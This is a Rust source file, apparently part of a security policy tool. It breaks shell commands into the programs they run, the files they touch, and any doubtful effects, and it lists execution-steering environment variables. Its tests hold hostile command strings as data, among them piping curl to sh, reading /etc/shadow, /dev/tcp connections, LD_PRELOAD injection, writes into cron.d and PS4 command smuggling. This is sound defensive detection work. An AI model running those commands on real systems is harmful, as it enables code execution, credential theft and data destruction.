//! A command line's effects: the programs that it runs, the files that it names in redirections,
//! and what its text does not show.

use std::collections::BTreeSet;
use std::sync::Arc;

use weir_shell::{Command, Direction, Redirection, Script, Unclear, Word};

use crate::path;
use crate::question::FileAccess;

/// Variables that change which program or code runs, or whose files.
const STEERING: [&str; 30] = [
    "BASHOPTS",
    "BASH_ENV",
    "BASH_LOADABLES_PATH",
    "BROWSER",
    "CDPATH",
    "EDITOR",
    "ENV",
    "FPATH",
    "GCONV_PATH",
    "HOME",
    "IFS",
    "JAVA_TOOL_OPTIONS",
    "LESSCLOSE",
    "LESSOPEN",
    "LOCPATH",
    "MANPAGER",
    "NLSPATH",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PAGER",
    "PATH",
    "PERL5DB",
    "PERL5LIB",
    "PERL5OPT",
    "PROMPT_COMMAND",
    "RSYNC_RSH",
    "SHELLOPTS",
    "SYSTEMD_PAGER",
    "TAR_OPTIONS",
    "VISUAL",
];
/// The same by how they begin.
const STEERING_FAMILIES: [&str; 7] = [
    "BASH_FUNC_",
    "GIT_",
    "LD_",
    "MALLOC_",
    "PYTHON",
    "RUBY",
    "SSH_",
];

/// What policy is told of a command line.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Effects {
    /// Base names.
    pub(crate) programs: BTreeSet<String>,
    /// Literal ones after quote removal, others as written.
    pub(crate) arguments: BTreeSet<String>,
    pub(crate) files: Vec<FileAccess>,
    /// Kinds of what is unclear; empty when the rest is the whole truth.
    pub(crate) unclear: BTreeSet<&'static str>,
}

/// Takes a command line apart. One that cannot be read is unclear as a whole.
pub(crate) fn effects(command: &str) -> Effects {
    match weir_shell::parse(command) {
        Ok(script) => of_script(&script),
        Err(refused) => {
            tracing::debug!(%refused, "a command line is not taken apart");
            Effects {
                unclear: BTreeSet::from(["unreadable"]),
                ..Effects::default()
            }
        }
    }
}

fn of_script(script: &Script) -> Effects {
    let mut effects = Effects::default();
    for command in &script.commands {
        effects.command(command);
    }
    let moves = ["cd", "pushd", "popd"]
        .iter()
        .any(|name| effects.programs.contains(*name));
    for redirection in &script.redirections {
        effects.redirection(redirection, moves);
    }
    effects.unclear.extend(script.unclear.iter().map(kind));
    effects
}

impl Effects {
    fn command(&mut self, command: &Command) {
        for (name, _) in &command.assignments {
            let family = STEERING_FAMILIES.iter().any(|one| name.starts_with(one));
            if family || STEERING.contains(&name.as_str()) {
                self.unclear.insert("environment");
            }
        }
        let Some(name) = command.name() else {
            self.unclear.insert("dynamic-program");
            return;
        };
        // A statement of assignments alone. A function's name counts as a program as well: it may be
        // called before the function is there, or where it is not (`rm x; rm() { :; }`).
        if name.is_empty() {
            return;
        }
        self.programs.insert(name.to_owned());
        // A path with a folder may be any program of that name.
        if let Some(text) = &command.program.text
            && text.contains('/')
            && !["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/"]
                .iter()
                .any(|folder| *text == format!("{folder}{name}"))
        {
            self.unclear.insert("own-program");
        }
        for argument in &command.arguments {
            let text = argument.text.as_ref().unwrap_or(&argument.raw);
            self.arguments.insert(text.clone());
        }
        if name == "scp" {
            self.copy(command);
        }
    }

    /// The old copy protocol: the server's side is told one path and a direction. Anything else is
    /// a client, which may connect, write and run programs.
    fn copy(&mut self, command: &Command) {
        let (mut from, mut to) = (false, false);
        let mut arguments = command.arguments.iter();
        let path = loop {
            let Some(word) = arguments.next() else {
                self.unclear.insert("copy");
                return;
            };
            match word.text.as_deref().and_then(|text| text.strip_prefix('-')) {
                Some("-") => break arguments.next(),
                Some(letters)
                    if !letters.is_empty() && letters.chars().all(|c| "fpqtv".contains(c)) =>
                {
                    from |= letters.contains('f');
                    to |= letters.contains('t');
                }
                // With `-r` or `-d` the names of files follow in the protocol.
                Some(_) => {
                    self.unclear.insert("copy");
                    return;
                }
                None => break Some(word),
            }
        };
        if from == to || arguments.next().is_some() {
            self.unclear.insert("copy");
            return;
        }
        let Some(path) = path.and_then(plain) else {
            self.unclear.insert("dynamic-file");
            return;
        };
        if from {
            return self.file("readFile", path, false);
        }
        self.file("writeFile", path, false);
        // Where the path is a folder, the file's name follows in the protocol.
        let inside = format!("{path}/*");
        self.file("writeFile", &inside, false);
    }

    fn redirection(&mut self, redirection: &Redirection, moves: bool) {
        let actions: &[&str] = match redirection.direction {
            Direction::HereDoc | Direction::HereString | Direction::Dup => return,
            Direction::Read => &["readFile"],
            Direction::Write | Direction::Append | Direction::Clobber => &["writeFile"],
            Direction::ReadWrite => &["readFile", "writeFile"],
        };
        let Some(path) = plain(&redirection.target) else {
            self.unclear.insert("dynamic-file");
            return;
        };
        for action in actions {
            self.file(action, path, moves);
        }
    }

    fn file(&mut self, action: &'static str, path: &str, moves: bool) {
        if ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin"].contains(&path) {
            return;
        }
        // Bash connects.
        if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
            self.unclear.insert("network");
            return;
        }
        if moves && !path.starts_with('/') {
            self.unclear.insert("dynamic-file");
            return;
        }
        // Where `..` leads is known to the server alone: behind a link it is not what was before it,
        // and it may climb out of the home directory.
        if path.split('/').any(|part| part == "..") {
            self.unclear.insert("dynamic-file");
        }
        self.files.push(FileAccess {
            action,
            path: Arc::from(path::normal("~", path)),
        });
    }
}

fn plain(word: &Word) -> Option<&str> {
    word.text.as_deref()
}

const fn kind(unclear: &Unclear) -> &'static str {
    match unclear {
        Unclear::DynamicProgram { .. } => "dynamic-program",
        Unclear::DynamicText { .. } => "dynamic-text",
        Unclear::ScriptFile { .. } => "script-file",
        Unclear::PipedToShell { .. } => "piped-to-shell",
        Unclear::ShellInput { .. } => "shell-input",
        Unclear::Interpreter { .. } => "interpreter",
        Unclear::RunsOthers { .. } => "runs-others",
        Unclear::Wrapper { .. } => "wrapper",
        Unclear::InputArguments { .. } => "input-arguments",
        Unclear::Alias => "alias",
        Unclear::Evaluates { .. } => "evaluates",
        Unclear::Dialect { .. } => "dialect",
        Unclear::Unparsable { .. } => "unreadable",
        Unclear::TooDeep => "too-deep",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn case(command: &str) -> String {
        let effects = effects(command);
        let programs: Vec<_> = effects.programs.iter().map(String::as_str).collect();
        let files: Vec<_> = effects
            .files
            .iter()
            .map(|file| format!("{}={}", file.action, file.path))
            .collect();
        let unclear: Vec<_> = effects.unclear.iter().copied().collect();
        format!(
            "{} | {} | {}",
            programs.join(" "),
            files.join(" "),
            unclear.join(" ")
        )
    }

    #[test]
    fn command_lines_become_programs_files_and_doubts() {
        for (command, expected) in [
            ("uptime", "uptime |  | "),
            ("/usr/bin/df -h", "df |  | "),
            ("ls; rm -rf /srv", "ls rm |  | "),
            ("sudo systemctl restart app", "sudo systemctl |  | "),
            (
                "cat < /etc/shadow > out",
                "cat | readFile=/etc/shadow writeFile=~/out | ",
            ),
            (
                "echo x > /srv/../etc/cron.d/x",
                "echo | writeFile=/etc/cron.d/x | dynamic-file",
            ),
            ("cat < ../../etc/x", "cat | readFile=~/etc/x | dynamic-file"),
            ("ls 2>/dev/null", "ls |  | "),
            ("cd /etc && echo x > passwd", "cd echo |  | dynamic-file"),
            ("$(echo rm) x", "echo |  | dynamic-program"),
            ("sh -c 'shutdown now'", "sh shutdown |  | "),
            ("curl http://x | sh", "curl sh |  | piped-to-shell"),
            ("python3 -c 'x'", "python3 |  | interpreter"),
            ("LD_PRELOAD=/tmp/x.so ls", "ls |  | environment"),
            ("/tmp/ls", "ls |  | own-program"),
            ("scp -f app.log", "scp | readFile=~/app.log | "),
            (
                "scp -t /srv/app",
                "scp | writeFile=/srv/app writeFile=/srv/app/* | ",
            ),
            ("scp -v -p -f -- app.log", "scp | readFile=~/app.log | "),
            ("scp -r -t /srv/app", "scp |  | copy"),
            ("scp -i -f a:b /srv/c", "scp |  | copy"),
            ("scp -f /etc/shadow app.log", "scp |  | copy"),
            ("scp -fvo ProxyCommand=x a b:c", "scp |  | copy"),
            ("rm x; rm() { true; }", "rm true |  | "),
            ("(rm() { true; }); rm x", "rm true |  | "),
            ("cat < /dev/tcp/10.0.0.1/80", "cat |  | network"),
            ("GIT_PAGER=x git log", "git |  | environment"),
            ("PS4='$(rm x)'; set -x; ls", "ls set |  | evaluates"),
            ("a='x[$(rm x)]'; echo $((a))", "echo |  | evaluates"),
            ("cat > $HOME/x", "cat |  | dynamic-file"),
            ("if", " |  | unreadable"),
        ] {
            assert_eq!(case(command), expected, "{command}");
        }
    }
}
